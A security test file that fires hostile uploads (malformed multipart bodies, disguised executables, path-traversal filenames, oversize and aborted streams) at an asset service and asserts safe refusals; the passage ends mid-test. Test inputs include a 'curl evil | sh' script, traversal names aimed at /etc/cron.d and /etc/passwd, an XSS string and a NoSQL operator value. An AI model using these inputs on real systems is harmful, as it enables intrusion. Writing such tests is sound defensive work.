// Hostile bodies against both upload endpoints (multipart POST /assets/:id/versions and tus /uploads):
// every case must get a 4xx in the error contract and leave no version, object, partial or staged file.
import { createHash, randomBytes } from 'node:crypto';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { existsSync, readdirSync, statSync } from 'node:fs';
import { S3StorageProvider } from '../src/infra/storage/S3StorageProvider';
import { startHarness, STORAGE_DRIVERS, type Harness } from './support/harness';
import { givenStudio, type Session } from './support/factories';
import { bufferOf, generated, multipartUpload, onReply, stagedUploads } from './support/uploads';
import { waitFor } from './support/workers';

const MAX = 1024 * 1024; // MAX_UPLOAD_BYTES below
const OBJ = Buffer.from('# Wavefront OBJ\nv 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 3\n');
const PNG_HEAD = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex');
const JPEG_HEAD = Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex');
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200, 1)]);
const PE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300, 0x90)]);
const B = 'xX-hostile-boundary-Xx';
const b64 = (s: string) => Buffer.from(s).toString('base64');

/** Deterministic xorshift32 stream of numbers and bytes, so a failing fuzz row can be replayed by its seed. */
function prng(seed: number) {
  let state = seed >>> 0 || 1;
  const next = () => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return state >>> 0;
  };
  return { int: (max: number) => next() % max, bytes: (n: number) => Buffer.from(Array.from({ length: n }, () => next() & 0xff)) };
}

interface Part {
  name?: string;
  filename?: string;
  /** Replaces the whole header block of the part (without the blank line). */
  rawHeaders?: string;
  body: string | Buffer;
}

function multipart(parts: Part[], { boundary = B, closing = true } = {}): Buffer {
  const chunks: Buffer[] = [];
  for (const p of parts) {
    const headers =
      p.rawHeaders ??
      [`Content-Disposition: form-data; name="${p.name ?? 'file'}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}`, ...(p.filename !== undefined ? ['Content-Type: application/octet-stream'] : [])].join('\r\n');
    chunks.push(Buffer.from(`--${boundary}\r\n${headers}\r\n\r\n`, 'latin1'), Buffer.from(p.body), Buffer.from('\r\n'));
  }
  if (closing) chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return Buffer.concat(chunks);
}
const filePart = (body: string | Buffer = OBJ, filename = 'mesh.obj'): Part => ({ name: 'file', filename, body });

interface Reply {
  status: number;
  headers: http.IncomingHttpHeaders;
  body: string;
}

/** One request with an exact body (Content-Length) over a real socket; headers are sent as given. */
function send(url: string, method: string, headers: Record<string, string | number>, body?: Buffer): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const req = http.request(url, { method, headers: body ? { 'Content-Length': body.length, ...headers } : headers });
    onReply(req, resolve, reject);
    req.on('error', reject);
    req.end(body);
  });
}

/**
 * Writes raw bytes on a fresh TCP connection, then either half-closes it ('end': the client is done but
 * sent less than it declared) or drops it ('destroy'), once `stopWhen` (if given) has resolved: with
 * h.reading(), the app is reading the body when the client stops. Resolves with the reply, or null if none came.
 */
function rawExchange(base: string, raw: Buffer, then: 'end' | 'destroy', stopWhen?: Promise<unknown>): Promise<Reply | null> {
  const { hostname, port } = new URL(base);
  return new Promise((resolve) => {
    const socket = net.connect(Number(port), hostname);
    const chunks: Buffer[] = [];
    socket.on('data', (c: Buffer) => chunks.push(c));
    socket.on('error', () => undefined);
    socket.on('close', () => {
      const text = Buffer.concat(chunks).toString('utf8');
      const m = /^HTTP\/1\.1 (\d{3})[^\r]*\r\n([\s\S]*?)\r\n\r\n([\s\S]*)$/.exec(text);
      if (!m) return resolve(null);
      const headers: http.IncomingHttpHeaders = {};
      for (const line of m[2]!.split('\r\n')) headers[line.slice(0, line.indexOf(':')).toLowerCase()] = line.slice(line.indexOf(':') + 1).trim();
      resolve({ status: Number(m[1]), headers, body: m[3]! });
    });
    socket.write(raw, () => {
      // A gate that never opens (it rejects after its timeout) still stops the client; the test then finds out why.
      void Promise.resolve(stopWhen).catch(() => undefined).then(() => (then === 'end' ? socket.end() : socket.destroy()));
    });
  });
}

/** Every file under dir, relative, with its size ('' if dir does not exist yet). */
function filesUnder(dir: string): Record<string, number> {
  if (!existsSync(dir)) return {};
  const out: Record<string, number> = {};
  for (const rel of readdirSync(dir, { recursive: true }) as string[]) {
    const s = statSync(path.join(dir, rel));
    if (s.isFile()) out[rel] = s.size;
  }
  return out;
}

function expectContract(res: Reply | null, status: number, code: string | RegExp) {
  expect(res).not.toBeNull();
  const r = res!;
  let body: unknown;
  try {
    body = JSON.parse(r.body);
  } catch {
    throw new Error(`expected a JSON error body, got ${r.status} ${JSON.stringify(r.body.slice(0, 300))}`);
  }
  expect({ status: r.status, body }).toEqual({
    status,
    body: { error: expect.objectContaining({ code: typeof code === 'string' ? code : expect.stringMatching(code), message: expect.any(String), correlationId: expect.any(String) }) },
  });
  expect(r.headers['content-type']).toMatch(/^application\/json/);
  const error = (body as { error: Record<string, unknown> }).error;
  // Nothing beyond the contract's fields, and the correlation id is the one the response announces.
  expect(Object.keys(error).filter((k) => !['code', 'message', 'correlationId', 'details'].includes(k))).toEqual([]);
  expect(error.correlationId).toBe(r.headers['x-request-id']);
}

describe.each(STORAGE_DRIVERS)('hostile uploads: every bad body gets a 4xx in the error contract and leaves nothing behind (%s storage)', (driver, driverOverrides) => {
  let h: Harness;
  let base: string;
  let s: Session;
  let other: Session;
  let assetId: string;
  let otherAssetId: string;

  beforeAll(async () => {
    h = await startHarness({ ...driverOverrides, MAX_UPLOAD_BYTES: '1mb', RATE_LIMIT_MAX: '1000000' });
    base = await h.listen();
    s = await givenStudio(h);
    other = await givenStudio(h);
    assetId = (await h.http.post('/assets').set(s.auth).send({ name: 'Target', type: 'SHOT' }).expect(201)).body.id;
    otherAssetId = (await h.http.post('/assets').set(other.auth).send({ name: 'Elsewhere', type: 'SHOT' }).expect(201)).body.id;
  });
  afterAll(() => h.close());

  const versionsUrl = () => `${base}/assets/${assetId}/versions`;
  const bearer = (who: Session = s) => ({ Authorization: `Bearer ${who.accessToken}` });

  /** What a refused upload must not change: versions, the asset's pointers, stored keys, files on disk. */
  async function snapshot(id = assetId) {
    const asset = await h.container.models.Asset.findById(id).lean();
    return {
      versions: await h.container.models.AssetVersion.countDocuments({ assetId: id }),
      asset: { latestVersion: asset?.latestVersion, currentVersion: asset?.currentVersion, revision: asset?.revision },
      keys: await h.container.storage.list(`studios/${s.user.studioId}/`),
      otherKeys: await h.container.storage.list(`studios/${other.user.studioId}/`),
      storageFiles: filesUnder(h.config.STORAGE_LOCAL_ROOT),
      stagedFiles: filesUnder(h.config.TUS_STAGING_DIR),
      // The tus uploads staged (on S3: objects and open multipart uploads under tus/ in the bucket).
      staged: await stagedUploads(h),
      // On S3: multipart uploads still open (an aborted write must abort its upload, not only skip completing it).
      inProgress: h.container.storage instanceof S3StorageProvider ? await h.container.storage.inProgress('studios/') : [],
    };
  }
  type Snapshot = Awaited<ReturnType<typeof snapshot>>;

  /**
   * Requires the state to be as before. Call it only once the server is done with the request: after its
   * reply (the app answers only after the upload's clean-up), or, when the client went away and no reply
   * can come, after h.answered() for the request's X-Request-Id.
   */
  async function expectUnchanged(before: Snapshot, id = assetId) {
    expect(await snapshot(id)).toEqual(before);
  }

  /** Every stored file sits under studios/, and none of the names the traversal cases aim at exists. */
  function expectNothingOutsideStorage() {
    const root = h.config.STORAGE_LOCAL_ROOT;
    for (const rel of Object.keys(filesUnder(root))) expect(rel.split(path.sep)[0]).toBe('studios');
    for (const target of ['etc/cron.d/evil.obj', 'etc/evil.obj', 'evil.obj', 'Windows/evil.obj']) {
      expect(existsSync(path.resolve(root, '..', target))).toBe(false);
      expect(existsSync(path.resolve(root, target))).toBe(false);
      expect(existsSync(path.resolve('/', target))).toBe(false);
    }
  }

  describe('requests Node refuses before the app sees them', () => {
    it.each([
      ['a malformed request line', Buffer.from('GARBAGE\r\n\r\n'), 400, 'MALFORMED_REQUEST'],
      ['headers over the size limit', Buffer.from(`GET /health HTTP/1.1\r\nHost: x\r\nX-Big: ${'a'.repeat(20 * 1024)}\r\n\r\n`), 431, 'HEADERS_TOO_LARGE'],
      ['a Content-Length that is not a number', Buffer.from('POST /assets HTTP/1.1\r\nHost: x\r\nContent-Length: ten\r\n\r\n'), 400, 'MALFORMED_REQUEST'],
    ] as const)('answers %s in the error contract', async (_label, raw, status, code) => {
      expectContract(await rawExchange(base, raw, 'end'), status, code);
    });
  });

  describe('multipart POST /assets/:id/versions', () => {
    const mp = (boundary = B) => `multipart/form-data; boundary=${boundary}`;

    it.each<[string, string | undefined, () => Buffer, number, string | RegExp]>([
      ['the boundary is missing from Content-Type', 'multipart/form-data', () => multipart([filePart()]), 400, 'MALFORMED_MULTIPART'],
      ['the boundary is empty', 'multipart/form-data; boundary=', () => multipart([filePart()]), 400, 'MALFORMED_MULTIPART'],
      ['the body uses another boundary than the declared one', mp('declared-boundary'), () => multipart([filePart()], { boundary: 'other-boundary' }), 400, /^(MALFORMED_MULTIPART|FILE_REQUIRED)$/],
      ['the body is empty', mp(), () => Buffer.alloc(0), 400, /^(MALFORMED_MULTIPART|FILE_REQUIRED)$/],
      ['the closing boundary is missing', mp(), () => multipart([filePart()], { closing: false }), 400, 'MALFORMED_MULTIPART'],
      ['the part has no Content-Disposition', mp(), () => multipart([{ rawHeaders: 'Content-Type: application/octet-stream', body: OBJ }]), 400, 'FILE_REQUIRED'],
      ['the part headers are binary garbage', mp(), () => multipart([{ rawHeaders: '\u0001\u0002garbage\u00ff\u0000: : :\r\n:novalue\r\nContent-Disposition', body: OBJ }]), 400, /^(MALFORMED_MULTIPART|FILE_REQUIRED)$/],
      ['the Content-Disposition is not form-data', mp(), () => multipart([{ rawHeaders: 'Content-Disposition: attachment; name="file"; filename="mesh.obj"', body: OBJ }]), 400, 'FILE_REQUIRED'],
      ['the Content-Disposition has an unterminated quote', mp(), () => multipart([{ rawHeaders: 'Content-Disposition: form-data; name="file; filename="mesh.obj', body: OBJ }]), 400, 'FILE_REQUIRED'],
      ['the file part has an empty filename', mp(), () => multipart([filePart(OBJ, '')]), 415, 'FILE_TYPE_REFUSED'],
      ['the file part is named otherwise', mp(), () => multipart([{ name: 'upload', filename: 'mesh.obj', body: OBJ }]), 400, 'UNEXPECTED_FILE_FIELD'],
      ['there is no file part at all', mp(), () => multipart([{ name: 'changeNote', body: 'only a note' }]), 400, 'FILE_REQUIRED'],
      ['there are two file parts', mp(), () => multipart([filePart(), filePart(OBJ, 'second.obj')]), 413, 'TOO_MANY_FILES'],
      ['a field before the file exceeds the field limit', mp(), () => multipart([{ name: 'changeNote', body: 'n'.repeat(5000) }, filePart()]), 413, 'FIELD_TOO_LARGE'],
      ['a field after the file exceeds the field limit', mp(), () => multipart([filePart(), { name: 'changeNote', body: 'n'.repeat(5000) }]), 413, 'FIELD_TOO_LARGE'],
      ['there are too many fields', mp(), () => multipart([...Array.from({ length: 6 }, () => ({ name: 'changeNote', body: 'x' })), filePart()]), 413, 'TOO_MANY_FIELDS'],
      ['there are too many parts', mp(), () => multipart([...Array.from({ length: 5 }, () => ({ name: 'changeNote', body: 'x' })), filePart(), { name: 'changeNote', body: 'x' }]), 413, 'TOO_MANY_PARTS'],
      ['a field has an unknown name (before the file)', mp(), () => multipart([{ name: 'owner', body: 'someone else' }, filePart()]), 400, 'UNKNOWN_FIELD'],
      ['a field has an unknown name (after the file is stored)', mp(), () => multipart([filePart(), { name: 'studioId', body: '0'.repeat(24) }]), 400, 'UNKNOWN_FIELD'],
      ['the change note is over 2,000 characters', mp(), () => multipart([filePart(), { name: 'changeNote', body: 'n'.repeat(2001) }]), 400, 'VALIDATION_FAILED'],
      ['the body is JSON', 'application/json', () => Buffer.from(JSON.stringify({ file: OBJ.toString('base64') })), 415, 'MULTIPART_REQUIRED'],
      ['the body is plain text', 'text/plain', () => OBJ, 415, 'MULTIPART_REQUIRED'],
      ['the body is urlencoded', 'application/x-www-form-urlencoded', () => Buffer.from('file=abc'), 415, 'MULTIPART_REQUIRED'],
      ['there is no Content-Type', undefined, () => OBJ, 415, 'MULTIPART_REQUIRED'],
      ['a .png holds unsniffable bytes', mp(), () => multipart([filePart(Buffer.from('not a png at all, just text'), 'albedo.png')]), 415, 'FILE_TYPE_UNKNOWN'],
      ['a .png holds a JPEG', mp(), () => multipart([filePart(Buffer.concat([JPEG_HEAD, Buffer.alloc(500, 3)]), 'albedo.png')]), 415, 'FILE_TYPE_MISMATCH'],
      ['a .png holds an ELF executable', mp(), () => multipart([filePart(ELF, 'albedo.png')]), 415, 'FILE_TYPE_REFUSED'],
      ['a .obj holds a Windows executable', mp(), () => multipart([filePart(PE, 'mesh.obj')]), 415, 'FILE_TYPE_REFUSED'],
      ['a .obj holds a shell script', mp(), () => multipart([filePart('#!/bin/sh\ncurl evil | sh\n', 'mesh.obj')]), 415, 'FILE_TYPE_REFUSED'],
      ['a .txt holds HTML', mp(), () => multipart([filePart('<html><script>alert(1)</script></html>', 'notes.txt')]), 415, 'FILE_TYPE_REFUSED'],
      ['a PNG hides behind a double extension .png.exe', mp(), () => multipart([filePart(Buffer.concat([PNG_HEAD, Buffer.alloc(100)]), 'albedo.png.exe')]), 415, 'FILE_TYPE_REFUSED'],
    ])('refuses a request where %s', async (_label, contentType, body, status, code) => {
      const before = await snapshot();
      const res = await send(versionsUrl(), 'POST', { ...bearer(), ...(contentType === undefined ? {} : { 'Content-Type': contentType }) }, body());
      expectContract(res, status, code);
      await expectUnchanged(before);
    });

    it('refuses an over-long field even when it arrives after the file is already stored', async () => {
      const before = await snapshot();
      const { hostname, port } = new URL(base);
      // The first write ends the file part (its closing boundary and the next part's headers are in it) ...
      const head = Buffer.concat([multipart([filePart()], { closing: false }), Buffer.from(`--${B}\r\nContent-Disposition: form-data; name="changeNote"\r\n\r\n`)]);
      // ... and only later does the over-long field value arrive.
      const tail = Buffer.from(`${'n'.repeat(5000)}\r\n--${B}--\r\n`);
      const req = http.request({ host: hostname, port, method: 'POST', path: `/assets/${assetId}/versions`, headers: { ...bearer(), 'Content-Type': mp(), 'Content-Length': head.length + tail.length } });
      const replied = new Promise<Reply | null>((resolve) => {
        req.on('response', (res) => {
          let text = '';
          res.setEncoding('utf8');
          res.on('data', (d: string) => (text += d));
          res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: text }));
        });
        req.on('error', () => resolve(null));
      });
      req.write(head);
      // Once the file's object is listed it is stored, and the service is waiting for the fields.
      await waitFor('the file part to be stored', async () => (await h.container.storage.list(`studios/${s.user.studioId}/`)).length > before.keys.length, 10_000, 20);
      req.end(tail);
      const reply = await replied;
      expectContract(reply, 413, 'FIELD_TOO_LARGE');
      await expectUnchanged(before);
    });

    it('answers 413 before reading a byte when Content-Length already exceeds MAX_UPLOAD_BYTES', async () => {
      const before = await snapshot();
      const reply = await new Promise<Reply>((resolve, reject) => {
        const req = http.request(versionsUrl(), { method: 'POST', headers: { ...bearer(), 'Content-Type': mp(), 'Content-Length': 3 * MAX } });
        req.on('response', (res) => {
          let text = '';
          res.setEncoding('utf8');
          res.on('data', (d: string) => (text += d));
          res.on('end', () => {
            req.destroy();
            resolve({ status: res.statusCode ?? 0, headers: res.headers, body: text });
          });
        });
        req.on('error', reject);
        req.flushHeaders();
      });
      expectContract(reply, 413, 'FILE_TOO_LARGE');
      await expectUnchanged(before);
    });

    it.each([
      ['well over the limit', 3 * MAX],
      ['one byte over the limit', MAX + 1],
    ])('answers 413 for a streamed (chunked) file %s', async (_label, size) => {
      const before = await snapshot();
      const res = await multipartUpload(versionsUrl(), s.accessToken, 'big.obj', generated(size, 11));
      expectContract(res, 413, 'FILE_TOO_LARGE');
      await expectUnchanged(before);
    });

    it('accepts a file of exactly MAX_UPLOAD_BYTES, so the limit is not off by one', async () => {
      const a = (await h.http.post('/assets').set(s.auth).send({ name: 'Exactly At Limit', type: 'SHOT' }).expect(201)).body.id as string;
      const res = await multipartUpload(`${base}/assets/${a}/versions`, s.accessToken, 'limit.obj', generated(MAX, 12));
      expect(res.status).toBe(201);
      expect(JSON.parse(res.body).version.file.size).toBe(MAX);
    });

    it.each([
      ['exactly the field limit (4096 bytes: 1,365 three-byte characters and one more)', '\u20ac'.repeat(1365) + 'n'],
      ['exactly the documented 2,000 characters', 'n'.repeat(2000)],
    ])('accepts a change note of %s, intact', async (_label, note) => {
      const a = (await h.http.post('/assets').set(s.auth).send({ name: `Long Note ${note.length}`, type: 'SHOT' }).expect(201)).body.id as string;
      const res = await send(`${base}/assets/${a}/versions`, 'POST', { ...bearer(), 'Content-Type': mp() }, multipart([{ name: 'changeNote', body: note }, filePart()]));
      expect(res.status).toBe(201);
      expect(JSON.parse(res.body).version.changeNote).toBe(note);
    });

    it.each([
      ['mid part headers, then half-closes', 'end', (full: Buffer) => full.subarray(0, full.indexOf('filename=') + 4)],
      ['mid file, then half-closes', 'end', (full: Buffer) => full.subarray(0, full.length - 40_000)],
      ['mid part headers, then drops the socket', 'destroy', (full: Buffer) => full.subarray(0, full.indexOf('filename=') + 4)],
      ['mid file, then drops the socket', 'destroy', (full: Buffer) => full.subarray(0, full.length - 40_000)],
      // The file part is complete and stored; the service is waiting for the remaining fields when the client goes.
      ['in a field after the file, then drops the socket', 'destroy', (full: Buffer) => full.subarray(0, full.lastIndexOf('trailing') + 3)],
    ] as const)('keeps nothing when the client stops %s', async (_label, then, cut) => {
      const before = await snapshot();
      const requestId = `cut-${randomBytes(6).toString('hex')}`;
      const body = multipart([{ name: 'changeNote', body: 'cut short' }, filePart(Buffer.concat([OBJ, Buffer.alloc(100_000, 0x20)])), { name: 'extra', body: 'trailing field' }]);
      const head = `POST /assets/${assetId}/versions HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${s.accessToken}\r\nX-Request-Id: ${requestId}\r\nContent-Type: ${mp()}\r\nContent-Length: ${body.length}\r\n\r\n`;
      // The client stops only once the app is reading the body: stopping earlier would test the auth
      // middleware instead, and (a defect in receiveUpload) leaves a request the app never answers.
      const reply = await rawExchange(base, Buffer.concat([Buffer.from(head), cut(body)]), then, h.reading(requestId));
      if (then === 'destroy') {
        // Nobody is left to answer.
        expect(reply).toBeNull();
      } else {
        // Node's HTTP parser refuses a body that ends before its Content-Length; the server's clientError
        // handler answers that in the contract too (MALFORMED_REQUEST), unless the app answered first.
        expectContract(reply, 400, /^(CLIENT_ABORTED|MALFORMED_MULTIPART|MALFORMED_REQUEST)$/);
      }
      // The client's side tells nothing of when the server is done (no reply, or Node's own parser error
      // answered before the app): the sentinel is the app's own answer to this request, which it gives
      // only after the upload's clean-up.
      expect((await h.answered(requestId)).status).toBe(400);
      await expectUnchanged(before);
      // The server is still fine afterwards.
      expect((await h.http.get(`/assets/${assetId}/versions`).set(s.auth)).status).toBe(200);
    });

    it.each(Array.from({ length: 30 }, (_, i) => i + 1))('refuses random garbage body #%i (seeded) with a 400', async (seed) => {
      const rnd = prng(seed * 7919);
      const garbage = rnd.bytes(1 + rnd.int(64 * 1024));
      // Odd seeds: pure garbage; even seeds: a valid opening boundary followed by garbage "headers" and body.
      const body = seed % 2 ? garbage : Buffer.concat([Buffer.from(`--${B}\r\n`), garbage]);
      const before = await snapshot();
      const res = await send(versionsUrl(), 'POST', { ...bearer(), 'Content-Type': mp() }, body);
      expectContract(res, 400, /^(MALFORMED_MULTIPART|FILE_REQUIRED)$/);
      await expectUnchanged(before);
    });

    it.each([
      ['a relative traversal', 'filename="../../../../etc/cron.d/evil.obj"', 'evil.obj'],
      ['an absolute path', 'filename="/etc/evil.obj"', 'evil.obj'],
      ['a Windows traversal', 'filename="..\\..\\Windows\\evil.obj"', 'evil.obj'],
      ['an encoded traversal (RFC 5987)', "filename*=UTF-8''..%2F..%2Fetc%2Fevil.obj", 'evil.obj'],
      ['a NUL byte', "filename*=UTF-8''evil.obj%00.png", 'evil.obj'],
    ])('stores a file named with %s under a sanitised name and writes nothing outside the storage root', async (_label, param, expected) => {
      const a = (await h.http.post('/assets').set(s.auth).send({ name: `Traversal ${_label}`, type: 'SHOT' }).expect(201)).body.id as string;
      const body = multipart([{ rawHeaders: `Content-Disposition: form-data; name="file"; ${param}\r\nContent-Type: text/plain`, body: OBJ }]);
      const res = await send(`${base}/assets/${a}/versions`, 'POST', { ...bearer(), 'Content-Type': mp() }, body);
      expect(res.status).toBe(201);
      const name = JSON.parse(res.body).version.file.originalName as string;
      expect(name).not.toMatch(/[/\\\0]/);
      expect(name).toBe(expected);
      const dl = await h.http.get(`/assets/${a}/download`).set(s.auth);
      expect(dl.status).toBe(200);
      expect(dl.headers['content-disposition']).not.toMatch(/[/\\]|%2F|%5C|%00/i);
      expectNothingOutsideStorage();
    });
  });

  describe('tus /uploads', () => {
    const tusUrl = (p = '') => `${base}/uploads${p}`;
    const tus = (who: Session = s) => ({ ...bearer(who), 'Tus-Resumable': '1.0.0' });
    const meta = (fields: Record<string, string>) => Object.entries(fields).map(([k, v]) => `${k} ${b64(v)}`).join(',');
    const octets = { 'Content-Type': 'application/offset+octet-stream' };

    async function createUpload(length: number, filename = 'mesh.obj'): Promise<string> {
      const res = await send(tusUrl(), 'POST', { ...tus(), 'Upload-Length': length, 'Upload-Metadata': meta({ assetId, filename }) });
      expect(res.status).toBe(201);
      return String(res.headers.location);
    }

    it.each<[string, () => Record<string, string | number>, number, string | RegExp]>([
      ['a negative Upload-Length', () => ({ ...tus(), 'Upload-Length': -1, 'Upload-Metadata': meta({ assetId, filename: 'a.obj' }) }), 400, 'UPLOAD_LENGTH_INVALID'],
      ['a non-numeric Upload-Length', () => ({ ...tus(), 'Upload-Length': 'lots', 'Upload-Metadata': meta({ assetId, filename: 'a.obj' }) }), 400, 'UPLOAD_LENGTH_INVALID'],
      ['a fractional Upload-Length', () => ({ ...tus(), 'Upload-Length': '1.5', 'Upload-Metadata': meta({ assetId, filename: 'a.obj' }) }), 400, 'UPLOAD_LENGTH_INVALID'],
      ['no Upload-Length at all', () => ({ ...tus(), 'Upload-Metadata': meta({ assetId, filename: 'a.obj' }) }), 400, 'UPLOAD_LENGTH_REQUIRED'],
      ['an Upload-Length over MAX_UPLOAD_BYTES', () => ({ ...tus(), 'Upload-Length': MAX + 1, 'Upload-Metadata': meta({ assetId, filename: 'a.obj' }) }), 413, 'FILE_TOO_LARGE'],
      ['an absurd Upload-Length', () => ({ ...tus(), 'Upload-Length': '99999999999999999999999', 'Upload-Metadata': meta({ assetId, filename: 'a.obj' }) }), 400, 'UPLOAD_LENGTH_INVALID'],
      ['no Tus-Resumable header', () => ({ ...bearer(), 'Upload-Length': 10, 'Upload-Metadata': meta({ assetId, filename: 'a.obj' }) }), 412, 'TUS_RESUMABLE_UNSUPPORTED'],
      ['an unsupported Tus-Resumable version', () => ({ ...tus(), 'Tus-Resumable': '0.2.2', 'Upload-Length': 10, 'Upload-Metadata': meta({ assetId, filename: 'a.obj' }) }), 412, 'TUS_RESUMABLE_UNSUPPORTED'],
      ['Upload-Metadata with invalid base64', () => ({ ...tus(), 'Upload-Length': 10, 'Upload-Metadata': `assetId !!!not-base64!!!,filename ${b64('a.obj')}` }), 400, 'UPLOAD_METADATA_INVALID'],
      ['Upload-Metadata with a duplicated key', () => ({ ...tus(), 'Upload-Length': 10, 'Upload-Metadata': `assetId ${b64(assetId)},assetId ${b64(assetId)},filename ${b64('a.obj')}` }), 400, 'UPLOAD_METADATA_INVALID'],
      ['Upload-Metadata without assetId', () => ({ ...tus(), 'Upload-Length': 10, 'Upload-Metadata': meta({ filename: 'a.obj' }) }), 400, 'UPLOAD_METADATA_REQUIRED'],
      ['Upload-Metadata with an empty assetId', () => ({ ...tus(), 'Upload-Length': 10, 'Upload-Metadata': `assetId,filename ${b64('a.obj')}` }), 400, 'UPLOAD_METADATA_REQUIRED'],
      ['Upload-Metadata without filename', () => ({ ...tus(), 'Upload-Length': 10, 'Upload-Metadata': meta({ assetId }) }), 400, 'UPLOAD_METADATA_REQUIRED'],
      ['a change note over 2,000 characters', () => ({ ...tus(), 'Upload-Length': 10, 'Upload-Metadata': meta({ assetId, filename: 'a.obj', changeNote: 'n'.repeat(2001) }) }), 400, 'VALIDATION_FAILED'],
      ['another studio\'s assetId', () => ({ ...tus(), 'Upload-Length': 10, 'Upload-Metadata': meta({ assetId: otherAssetId, filename: 'a.obj' }) }), 404, 'ASSET_NOT_FOUND'],
      ['an assetId that is not an ObjectId', () => ({ ...tus(), 'Upload-Length': 10, 'Upload-Metadata': meta({ assetId: 'not-an-object-id', filename: 'a.obj' }) }), 404, 'ASSET_NOT_FOUND'],
      ['an operator-looking assetId', () => ({ ...tus(), 'Upload-Length': 10, 'Upload-Metadata': meta({ assetId: '{"$ne":null}', filename: 'a.obj' }) }), 404, 'ASSET_NOT_FOUND'],
      ['no bearer token', () => ({ 'Tus-Resumable': '1.0.0', 'Upload-Length': 10, 'Upload-Metadata': meta({ assetId, filename: 'a.obj' }) }), 401, 'UNAUTHENTICATED'],
    ])('refuses a creation with %s', async (_label, headers, status, code) => {
      const before = await snapshot();
      const res = await send(tusUrl(), 'POST', headers());
      expectContract(res, status, code);
      await expectUnchanged(before);
    });

    it('answers a missing or unsupported Tus-Resumable with 412 and the versions it supports, as tus 1.0 requires', async () => {
      const res = await send(tusUrl(), 'POST', { ...bearer(), 'Tus-Resumable': '2.0.0', 'Upload-Length': 10, 'Upload-Metadata': meta({ assetId, filename: 'a.obj' }) });
      expectContract(res, 412, 'TUS_RESUMABLE_UNSUPPORTED');
      expect(res.headers['tus-version']).toBe('1.0.0');
      expect(res.headers['tus-resumable']).toBe('1.0.0');
    });

    it.each<[string, (len: number) => Record<string, string | number>, (len: number) => Buffer, number, string | RegExp]>([
      ['a wrong Upload-Offset', () => ({ ...tus(), ...octets, 'Upload-Offset': 5 }), (n) => OBJ.subarray(0, n - 5), 409, 'UPLOAD_OFFSET_CONFLICT'],
      ['a negative Upload-Offset', () => ({ ...tus(), ...octets, 'Upload-Offset': -1 }), (n) => OBJ.subarray(0, n), 400, 'UPLOAD_OFFSET_INVALID'],
      ['no Upload-Offset', () => ({ ...tus(), ...octets }), (n) => OBJ.subarray(0, n), 400, 'UPLOAD_OFFSET_REQUIRED'],
      ['Content-Type text/plain', () => ({ ...tus(), 'Content-Type': 'text/plain', 'Upload-Offset': 0 }), (n) => OBJ.subarray(0, n), 415, 'UPLOAD_CONTENT_TYPE_INVALID'],
      ['Content-Type multipart/form-data', () => ({ ...tus(), 'Content-Type': `multipart/form-data; boundary=${B}`, 'Upload-Offset': 0 }), (n) => OBJ.subarray(0, n), 415, 'UPLOAD_CONTENT_TYPE_INVALID'],
      ['no Content-Type', () => ({ ...tus(), 'Upload-Offset': 0 }), (n) => OBJ.subarray(0, n), 415, 'UPLOAD_CONTENT_TYPE_INVALID'],
      ['a body longer than Upload-Length', () => ({ ...tus(), ...octets, 'Upload-Offset': 0 }), (n) => Buffer.concat([OBJ.subarray(0, n), Buffer.alloc(500, 0x20)]), 413, 'UPLOAD_LENGTH_EXCEEDED'],
      ['no Tus-Resumable header', () => ({ ...bearer(), ...octets, 'Upload-Offset': 0 }), (n) => OBJ.subarray(0, n), 412, 'TUS_RESUMABLE_UNSUPPORTED'],
      ['another studio\'s token', () => ({ ...tus(other), ...octets, 'Upload-Offset': 0 }), (n) => OBJ.subarray(0, n), 404, 'UPLOAD_NOT_FOUND'],
    ])('refuses a PATCH with %s and keeps the staged upload as it was', async (_label, headers, body, status, code) => {
      const len = OBJ.length;
      const location = await createUpload(len);
      const before = await snapshot();
      const res = await send(`${base}${location}`, 'PATCH', headers(len), body(len));
      expectContract(res, status, code);
      await expectUnchanged(before);
      const head = await send(`${base}${location}`, 'HEAD', tus());
      expect(head.status).toBe(200);
      expect(head.headers['upload-offset']).toBe('0');
      // The upload is still usable after the refusal.
      const done = await send(`${base}${location}`, 'PATCH', { ...tus(), ...octets, 'Upload-Offset': 0 }, OBJ);
      expect(done.status).toBe(200);
      expect(JSON.parse(done.body).version.file).toMatchObject({ size: len, originalName: 'mesh.obj' });
    });

    it('refuses a chunked PATCH body that runs past Upload-Length without creating a version', async () => {
      const location = await createUpload(OBJ.length);
      const before = await snapshot();
      const res = await new Promise<Reply>((resolve, reject) => {
        const req = http.request(`${base}${location}`, { method: 'PATCH', headers: { ...tus(), ...octets, 'Upload-Offset': 0, 'Transfer-Encoding': 'chunked' } });
        req.on('response', (r) => {
          let text = '';
          r.setEncoding('utf8');
          r.on('data', (d: string) => (text += d));
          r.on('end', () => resolve({ status: r.statusCode ?? 0, headers: r.headers, body: text }));
        });
        req.on('error', reject);
        req.write(OBJ);
        req.end(Buffer.alloc(64 * 1024, 0x20));
      });
      expectContract(res, 413, 'UPLOAD_LENGTH_EXCEEDED');
      const after = await snapshot();
      expect(after.versions).toBe(before.versions);
      expect(after.keys).toEqual(before.keys);
      // Nothing of the refused body was kept: the upload is still at 0 and can be finished properly.
      expect((await send(`${base}${location}`, 'HEAD', tus())).headers['upload-offset']).toBe('0');
      const done = await send(`${base}${location}`, 'PATCH', { ...tus(), ...octets, 'Upload-Offset': 0 }, OBJ);
      expect(done.status).toBe(200);
    });

    it.each([
      ['an unknown id of the caller\'s studio', () => `/${s.user.studioId}-${'0'.repeat(32)}`, 404, 'UPLOAD_NOT_FOUND'],
      ['an unknown id without a studio prefix', () => '/deadbeef', 404, 'UPLOAD_NOT_FOUND'],
      ['a traversal-looking id', () => `/${s.user.studioId}-..%2F..%2Fetc%2Fpasswd`, 404, 'UPLOAD_NOT_FOUND'],
    ])('answers 404 to PATCH, HEAD and DELETE for %s', async (_label, id, status, code) => {
